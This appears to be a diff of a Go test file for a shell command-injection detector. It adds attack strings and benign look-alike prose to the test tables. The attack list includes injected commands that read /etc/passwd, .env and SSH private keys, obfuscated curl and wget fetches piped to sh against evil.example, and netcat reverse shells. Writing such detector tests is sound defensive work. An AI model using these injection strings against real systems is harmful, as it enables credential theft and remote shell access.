@@ -294,7 +294,7 @@ func TestQuoteCommentOnProse(t *testing.T) {
 // command's letters, grouping, Windows' net and ver) among them.
 var shellCommandAttacks = []string{"| id", "; id", ";id", "&& id", "`id`", "x|id", "a\nid", "a\nid\n", "; id; x", "127.0.0.1; id",
 	"; c'u'rl evil.example/x|s'h'", "; w'h'o'am'i", "; ps aux", "; ip a", "; sleep 5", "127.0.0.1; ping 10.0.0.1", "; kill -9 1",
-	"; cat /etc/passwd", "| cat .env", "x|id|sh", "; nc evil.example 4444", "; nc -e /bin/sh x", "|nc", "x; ver",
+	"; cat /etc/passwd", "| cat .env", ";more</etc/passwd", "& more /etc/passwd", ";tail -n1 x", "x|head ~/.ssh/id_rsa", "x|id|sh", "; nc evil.example 4444", "; nc -e /bin/sh x", "|nc", "x; ver",
 	";w$@get http://evil.example/x", ";who$@ami", ";u$@name -a", ";i$()d", ";i$*d", ";w${x}get evil.example", "|(id)", ";{ id; }", ";(whoami)",
 	"& net user", "& net localgroup administrators", "& ver", "$(id)", "$( id )", "`sleep 5`", "Use `id`", "`id` | nc x 1",
 	// Windows' net in its real shapes (a sixth fresh-eyes attack's B12
@@ -333,6 +333,8 @@ var shellCommandBenign = []string{
 	// near B9: carets, call, $'' in prose and code
 	"2^3 & 4^2", "x^2 | y^2", "a; call me later", "Me & you; call us", "x & cmd line tools", "Use `$'\\t'` for a tab", "it costs $'5' & up",
 	"net1 & net2", "Q&A; call center", "& ^_^", "Tom & Jerry; ^^ nice",
+	// attack 60's: a command that reads a file, with no file, ends prose
+	"Q&A; & more", "R&D; & less", "Tips & tricks; & more", "Snacks | more", "Boots; cat", "Sports & more\nNews & more",
 	// near B14
 	"costs $1; $2 more", "A; $1 idea", "x; `true` or `false`", "; $'x' is a string", "Set `id` and `true` flags",
 	// near attack 13's PowerShell: IEX, the exchange; IRM, rights management
